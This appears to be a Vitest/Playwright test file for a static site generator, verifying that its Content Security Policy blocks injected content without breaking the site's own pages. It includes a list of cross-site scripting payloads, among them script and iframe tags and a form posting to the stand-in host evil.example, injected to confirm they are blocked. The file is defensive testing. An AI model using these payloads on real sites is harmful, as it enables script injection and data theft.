import { readFile } from 'node:fs/promises';
import path from 'node:path';
import type { Page } from 'playwright';
import { describe, expect, inject, test } from 'vitest';
import { isDeep, some } from '../../support/deep.js';
import { exampleSite } from '../../support/example-site.js';
import { copyOfSite, edit } from '../../support/herbarium.js';
import { navigateTo } from '../../support/navigation.js';
import { onlyPolicyOf, untilAwake, watchPolicy } from '../../support/policy.js';
import { startPreview } from '../../support/preview.js';
import { screens } from '../../support/screens.js';
import { buildSmall } from '../../support/small-site.js';
import { serveSite } from '../../support/static-server.js';

const { newPage, url } = exampleSite();

/** A page of the example, with everything that its policy blocked. */
async function openWatched(where: 'header' | 'meta') {
  const page = await newPage({
    isFresh: true,
    reducedMotion: 'reduce',
    viewport: { width: 1280, height: 800 },
  });
  const broken = await watchPolicy(page);
  await onlyPolicyOf(page, where);
  return { page, broken };
}

describe('the content security policy', () => {
  test('is strict: scripts and styles of the site alone, nothing inline', async () => {
    const headers = await readFile(path.join(inject('exampleSite'), '_headers'), 'utf8');
    const html = await readFile(path.join(inject('exampleSite'), 'about-us.html'), 'utf8');
    const sent = /Content-Security-Policy: (.*)/.exec(headers)?.[1];
    const [, before, meta] =
      /^(.*?)<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html) ?? [];
    expect(before).not.toMatch(/<(script|link|style)\b.*<meta http-equiv/);
    const carried = [
      "default-src 'none'",
      "script-src 'self'",
      "style-src 'self'",
      "img-src 'self' https:",
      "connect-src 'self'",
      "font-src 'self'",
      expect.stringMatching(/^form-action 'self'/),
      "base-uri 'none'",
    ];
    expect(meta?.split('; ')).toEqual(carried);
    // The worker that reads the full-text index follows only the header.
    expect(sent?.split('; ')).toEqual([
      ...carried.with(1, "script-src 'self' 'wasm-unsafe-eval'"),
      "require-trusted-types-for 'script'",
      "trusted-types herbarium 'allow-duplicates'",
      "frame-ancestors 'none'",
    ]);
  });

  test.runIf(isDeep)('stops no page of any screen, as a header', async () => {
    const { page, broken } = await openWatched('header');
    for (const address of some(oneOfEach, 5)) {
      await page.goto(url() + address);
      await untilAwake(page);
    }
    expect(broken).toEqual([]);
  });

  test.runIf(isDeep)('stops no navigation and no island, as a meta element', async () => {
    const { page, broken } = await openWatched('meta');
    await page.goto(`${url()}/about-us`);
    for (const use of uses) await use(page);
    for (const address of [screens.products, screens.knowledge, screens['news-item'], screens.error]) {
      await navigateTo(page, address);
      await untilAwake(page);
    }
    expect(broken).toEqual([]);
  });

  test.runIf(isDeep)('stops no page below another base, with folders for pages', async () => {
    const { site, run } = await buildSmall((project) =>
      edit(
        path.join(project, 'catalogue.yaml'),
        '  language: en\n',
        '  language: en\n  base: /shop/\n  format: directory\n',
      ),
    );
    expect(run.code).toBe(0);
    const headers = await readFile(path.join(site, '_headers'), 'utf8');
    expect(headers).toMatch(/^\/shop\/\*\n/);
    expect(headers).not.toContain('wasm');
    const server = await serveSite(site, undefined, '/shop');
    try {
      const page = await newPage({ isFresh: true });
      const broken = await watchPolicy(page);
      for (const address of [
        '',
        'colours/blue-powder/',
        'search/?q=blue',
        'sports/%D9%85%D8%B3%D8%AD%D9%88%D9%82/',
      ]) {
        const response = await page.goto(`${server.url}/shop/${address}`);
        expect(response?.headers()['content-security-policy']).toContain("default-src 'none'");
        await untilAwake(page);
      }
      await page.goto(`${server.url}/shop/about-us/`);
      await navigateTo(page, '/shop/colours/');
      expect(broken).toEqual([]);
    } finally {
      await server.close();
    }
  });
});

test.runIf(isDeep)(
  'the preview sends the policy too, and neither its script, its errors nor its own pages break one',
  async () => {
    const project = await copyOfSite('small');
    const catalogue = path.join(project, 'catalogue.yaml');
    await edit(catalogue, 'brand: Little Mill', 'brand: 7');
    const preview = await startPreview(project);
    const page = await newPage({ isFresh: true });
    const broken = await watchPolicy(page);
    const answer = await page.goto(preview.url);
    expect(answer?.headers()['content-security-policy']).toContain("default-src 'none'");
    expect(await page.locator('main').evaluate((main) => getComputedStyle(main).maxWidth)).toBe('960px');
    await edit(catalogue, 'brand: 7', 'brand: Little Mill');
    await page.locator('main[data-screen="home"]').waitFor();
    const home = await page.goto(preview.url);
    expect(home?.headers()['content-security-policy']).toMatch(/script-src 'self'.*frame-ancestors 'none'/);
    await navigateTo(page, '/colours/blue-powder');
    const heading = page.locator('main h1');
    await edit(catalogue, 'name: Blue Powder\n', 'name: Bluer Powder\n');
    await expect.poll(() => heading.textContent()).toBe('Bluer Powder');
    await edit(catalogue, 'name: Bluer Powder\n', 'name: []\n');
    const errors = page.locator('herbarium-errors');
    await errors.waitFor();
    expect(await errors.evaluate((element) => getComputedStyle(element).position)).toBe('fixed');
    await edit(catalogue, 'name: []\n', 'name: Blue Powder\n');
    await errors.waitFor({ state: 'detached' });
    expect(broken.filter((text) => !text.includes('500 (Internal Server Error)'))).toEqual([]);
  },
);

/** A page of every screen, and an Arabic one. `screens` has some twice. */
const oneOfEach = Object.entries(screens).flatMap(([name, address]) =>
  /^(applications|blog|last-products|plain-product)$/.test(name) ? [] : [address],
);

/** What visitors do with islands. Each starts and ends on a page of the site. */
const uses: readonly ((page: Page) => Promise<void>)[] = [
  async (page) => {
    await navigateTo(page, '/');
    await page.getByRole('button', { name: 'Zoom in' }).click();
    await page.waitForFunction(
      () => document.querySelector<HTMLElement>('.slide img')?.style.transform !== '',
    );
    await page.getByRole('button', { name: /Next/ }).click();
  },
  async (page) => {
    await navigateTo(page, '/natural-colorants?sort=name&letter=B');
    await page.getByRole('status').filter({ hasText: /\d/ }).first().waitFor();
  },
  async (page) => {
    await navigateTo(page, '/search?q=anthocyanin%20stability');
    await page.locator('.search-results mark').first().waitFor();
  },
  async (page) => {
    await navigateTo(page, '/natural-colorants/blue-spirulina-phycocyanin-powder');
    await page
      .getByRole('button', { name: /enquiry list/i })
      .first()
      .click();
    await page
      .getByRole('button', { name: /compare/i })
      .first()
      .click();
    await navigateTo(page, '/compare');
    await page.locator('.comparison table').waitFor();
  },
  async (page) => {
    await navigateTo(page, '/contact-us');
    await untilAwake(page);
    const form = page.getByRole('form', { name: 'Your enquiry' });
    for (const field of ['Your name', 'Company', 'Message']) await form.getByLabel(field).fill('A Buyer');
    await form.getByLabel('E-mail').fill('buyer@sweets.example');
    await form.getByRole('checkbox', { name: /You may use/ }).check();
    await form.getByRole('button', { name: 'Send enquiry' }).click();
    await page.locator('main[data-screen="thanks"]').waitFor();
  },
];

/** What an attacker would put into a page. Each reports when it has worked. */
const injected: Readonly<Record<string, string>> = {
  'an inline script': '<script>worked()</script>',
  'an inline module': '<script type="module">worked()</script>',
  'a handler': '<img src="/_assets/none.png" onerror="worked()">',
  'a drawing with a handler': '<svg onload="worked()"></svg>',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'a script in its address': '<script src="data:text/javascript,worked()"></script>',
  'a frame': `<iframe srcdoc="<script>parent.worked()</script>"></iframe>`,
  'a frame of an address that is a script': '<iframe src="javascript:parent.worked()"></iframe>',
  'a frame from elsewhere': '<iframe src="https://evil.example/"></iframe>',
  'an object': '<object data="data:text/html,<script>worked()</script>"></object>',
  'an inline style': '<style>h1 { color: rgb(1, 2, 3) !important }</style>',
  'a style attribute': '<h1 id="styled" style="color: rgb(1, 2, 3)">Styled</h1>',
  'a stylesheet from elsewhere':
    '<link rel="stylesheet" href="data:text/css,h1 { color: rgb(1, 2, 3) !important }">',
  'another base': '<base href="https://evil.example/">',
};

describe('what is injected into a built page', () => {
  test.each(['header', 'meta'] as const)(
    'is blocked by the %s alone: scripts, handlers, styles, frames',
    async (where) => {
      const page = await newPage({ isFresh: true });
      const worked: string[] = [];
      const blocked: string[] = [];
      await page.exposeFunction('noteViolation', (text: string) => blocked.push(text));
      await page.exposeFunction('noteWorked', (name: string) => worked.push(name));
      await page.addInitScript(() => {
        Object.assign(window, { worked: () => Reflect.get(window, 'noteWorked')('a script') });
        addEventListener(
          'securitypolicyviolation',
          (event) => {
            Reflect.get(window, 'noteViolation')(event.effectiveDirective);
          },
          true,
        );
      });
      await onlyPolicyOf(page, where);
      await page.route('https://evil.example/**', (route) =>
        route.fulfill({ contentType: 'text/javascript', body: 'worked()' }),
      );
      await page.route('**/about-us', async (route) => {
        const response = await route.fetch();
        const { 'content-security-policy': policy, ...bare } = response.headers();
        const html = await response.text();
        const body = (
          where === 'header' ? html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '') : html
        ).replace(
          '</main>',
          `${Object.values(injected).join('\n')}<a id="lure" href="javascript:worked()">x</a>
          <form id="steal" action="https://evil.example/" method="post"><button>x</button></form></main>`,
        );
        const headers =
          where === 'header' && policy !== undefined ? { ...bare, 'content-security-policy': policy } : bare;
        await route.fulfill({ response, headers, body });
      });
      await page.goto(`${url()}/about-us`);
      await page.locator('#lure').click();
      await page.locator('#steal').evaluate((form: HTMLFormElement) => form.requestSubmit());
      await expect
        .poll(() => [...new Set(blocked)].sort())
        .toEqual([
          'base-uri',
          'form-action',
          'frame-src',
          'object-src',
          'script-src-attr',
          'script-src-elem',
          'style-src-attr',
          'style-src-elem',
        ]);
      expect(worked).toEqual([]);
      expect(
        await page.locator('h1').evaluateAll((all) => all.map((one) => getComputedStyle(one).color)),
      ).not.toContain('rgb(1, 2, 3)');
      expect(page.url()).toBe(`${url()}/about-us`);
      // No text becomes code. With the header, no text becomes markup either, except through the navigator.
      const sinks = await page.evaluate(
        () =>
          new Promise<readonly string[]>((resolve) => {
            const element = document.createElement('div');
            const attempts: Record<string, () => unknown> = {
              markup: () => Object.assign(element, { innerHTML: '<b>x</b>' }),
              document: () => document.write('x'),
              handler: () => element.setAttribute('onclick', 'worked()'),
              code: () => Reflect.construct(Function, ['worked()']),
              address: () => Object.assign(document.createElement('script'), { src: 'x.js' }),
              policy: () => Reflect.get(window, 'trustedTypes').createPolicy('another', {}),
            };
            const succeeds = (attempt: () => unknown) => {
              try {
                attempt();
                return true;
              } catch {
                return false;
              }
            };
            // Delayed, because code that the debugger evaluates may do more than the page.
            setTimeout(() =>
              resolve(Object.keys(attempts).filter((name) => succeeds(attempts[name] ?? (() => {})))),
            );
          }),
      );
      expect(sinks).toEqual(where === 'header' ? [] : ['markup', 'document', 'handler', 'address', 'policy']);
    },
  );
});
